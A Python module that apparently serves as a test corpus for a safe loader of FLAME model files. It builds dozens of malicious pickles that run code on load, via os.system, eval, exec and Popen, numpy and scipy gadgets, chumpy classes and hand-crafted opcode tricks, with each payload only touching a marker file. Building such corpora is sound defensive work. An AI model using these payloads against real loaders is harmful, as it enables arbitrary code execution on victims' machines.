"""Pickles that would do harm where they are run: calls, gadgets of numpy and scipy, and instructions put together by hand."""

import builtins
import functools
import operator
import os
import pickle
import struct
import subprocess
from collections import defaultdict
from pathlib import Path

import numpy as np


class Calls:
    """Pickled as a call of ``what`` with the given arguments, perhaps followed by a state."""

    def __init__(self, what, *arguments, state=None):
        self.reduced = (what, arguments) if state is None else (what, arguments, state)

    def __reduce__(self):
        return self.reduced


def mark(marker):
    return f"open({str(marker)!r}, 'w').close()"


def global_(module, name):
    return f"c{module}\n{name}\n".encode()


def text(string):
    raw = string.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


ARRAY = b"\x80\x02" + global_("numpy.core.multiarray", "_reconstruct") + global_("numpy", "ndarray") + b"K\x00\x85U\x01b\x87R"


def calls(marker):
    """What Python's own pickler writes of a call."""
    shell, python = f"touch '{marker}'", mark(marker)
    return {
        "os.system": pickle.dumps(Calls(os.system, shell)),
        "os.system, protocol 0": pickle.dumps(Calls(os.system, shell), 0),
        "os.system, protocol 5": pickle.dumps({"f": Calls(os.system, shell)}, 5),
        "eval": pickle.dumps(Calls(builtins.eval, python)),
        "exec": pickle.dumps({"v_template": Calls(builtins.exec, python)}, 2),
        "Popen": pickle.dumps(Calls(subprocess.Popen, ["touch", str(marker)])),
        "Path.touch": pickle.dumps(Calls(Path.touch, Path(marker))),
        "getattr": pickle.dumps(Calls(builtins.getattr, Calls(builtins.__import__, "os"), "system")),
        "partial": pickle.dumps(Calls(functools.partial, os.system, shell)),
        "methodcaller": pickle.dumps(Calls(operator.methodcaller, "touch")),
        "defaultdict": pickle.dumps(defaultdict(list)),
    }


def arrays(marker):
    """Arrays, numbers and types of numpy that hold more than numbers."""
    shell, python = f"touch '{marker}'", mark(marker)
    objects = ARRAY + b"(K\x01K\x01\x85" + global_("numpy", "dtype") + b"U\x02O8K\x00K\x01\x87R"
    inner = pickle.dumps(Calls(os.system, shell))
    return {
        "numpy runstring": b"\x80\x02" + global_("numpy.testing._private.utils", "runstring") + text(python) + b"}\x86R.",
        "numpy load": b"\x80\x02" + global_("numpy", "load") + text(str(marker)) + b"\x85R.",
        "numpy fromfile": b"\x80\x02" + global_("numpy", "fromfile") + text("/etc/hostname") + b"\x85R.",
        "numpy f2py": b"\x80\x02" + global_("numpy.f2py.diagnose", "run_command") + text(shell) + b"\x85R.",
        "numpy distutils": b"\x80\x02" + global_("numpy.distutils.exec_command", "exec_command") + text(shell) + b"\x85R.",
        "memmap": b"\x80\x02" + global_("numpy", "memmap") + text(str(marker)) + text("uint8") + text("w+") + b"\x87R.",
        "memmap by _reconstruct": b"\x80\x02"
        + global_("numpy.core.multiarray", "_reconstruct")
        + global_("numpy", "memmap")
        + b"K\x00\x85U\x01b\x87R.",
        "an array of objects": pickle.dumps({"f": np.array([Calls(os.system, shell), None], dtype=object)}, 2),
        "an array of harmless objects": pickle.dumps({"f": np.array([{}, None], dtype=object)}, 2),
        "one object as an array": pickle.dumps({"f": np.array(Calls(os.system, shell), dtype=object)}, 2),
        "objects as raw bytes": objects + b"\x89U\x08" + bytes(8) + b"tb.",
        "scalar that nests a pickle": b"\x80\x02"
        + global_("numpy.core.multiarray", "scalar")
        + global_("numpy", "dtype")
        + b"U\x02O8K\x00K\x01\x87RB"
        + struct.pack("<I", len(inner))
        + inner
        + b"\x86R.",
        "dtype with fields of objects": pickle.dumps({"f": np.zeros(2, [("a", "O"), ("b", "f8")])}, 2),
        "dtype with crafted flags": b"\x80\x02"
        + global_("numpy", "dtype")
        + b"U\x02V8K\x00K\x01\x87R(K\x03U\x01|N(U\x01at}U\x01a"
        + global_("numpy", "dtype")
        + b"U\x02O8K\x00K\x01\x87RK\x00\x86sK\x08K\x01K\x00tb.",
    }


def libraries(marker):
    """What the libraries of FLAME's files might be talked into."""
    shell, python = f"touch '{marker}'", mark(marker)
    return {
        "scipy with a gadget as its state": b"\x80\x02"
        + global_("scipy.sparse.csc", "csc_matrix")
        + b")\x81}("
        + text("data")
        + global_("os", "system")
        + text(shell)
        + b"\x85Rub.",
        "scipy by another door": b"\x80\x02" + global_("scipy.sparse", "load_npz") + text(str(marker)) + b"\x85R.",
        "chumpy with a gadget": b"\x80\x02"
        + global_("chumpy.ch", "Ch")
        + b")\x81}"
        + text("x")
        + global_("os", "system")
        + text(shell)
        + b"\x85Rsb.",
        "chumpy called with code": b"\x80\x02" + global_("chumpy.ch", "ChLambda") + text(python) + b"\x85R.",
    }


def instructions(marker):
    """Names, objects and states as no pickler writes them."""
    shell, python = f"touch '{marker}'", mark(marker)
    return {
        "a dotted name": b"\x80\x04" + text("numpy") + text("ndarray.__class__.__base__.__subclasses__") + b"\x93)R.",
        "a module of numpy's own": b"\x80\x04" + text("numpy") + text("os.system") + b"\x93" + text(shell) + b"\x85R.",
        "names made on the stack": b"\x80\x04"
        + text("o")
        + b"0"
        + text("os")
        + b"\x94"
        + text("system")
        + b"\x93"
        + text(shell)
        + b"\x85R.",
        "a name that is no text": b"\x80\x04K\x01K\x02\x93.",
        "state for a function": ARRAY[:2] + global_("numpy.core.multiarray", "_reconstruct") + b"}" + text("__code__") + b"Nsb.",
        "state for a class": b"\x80\x02"
        + global_("numpy", "ndarray")
        + b"N}"
        + text("__setstate__")
        + global_("os", "system")
        + b"s\x86b.",
        "_reconstructor of anything": b"\x80\x02"
        + global_("copy_reg", "_reconstructor")
        + global_("numpy", "memmap")
        + global_("__builtin__", "object")
        + b"N\x87R.",
        "_reconstructor of itself": b"\x80\x02" + 2 * global_("copy_reg", "_reconstructor") + global_("__builtin__", "object") + b"N\x87R.",
        "codecs": b"\x80\x02" + global_("_codecs", "encode") + text(python) + text("rot13") + b"\x86R.",
        "an old instance": b"(" + text(shell) + b"ios\nsystem\n.",
        "an old object": b"(" + global_("os", "system") + text(shell) + b"o.",
        "an extension": b"\x80\x02\x82\x01.",
        "a persistent thing": b"Pos.system\n.",
        "a new object with keywords": b"\x80\x04" + global_("numpy", "ndarray") + b")}\x92.",
        "a buffer from elsewhere": b"\x80\x05\x97.",
        "calling what was made": ARRAY + b")R.",
    }


def attacks(marker):
    """All of them by name; one that is run leaves a file at ``marker``."""
    return calls(marker) | arrays(marker) | libraries(marker) | instructions(marker)
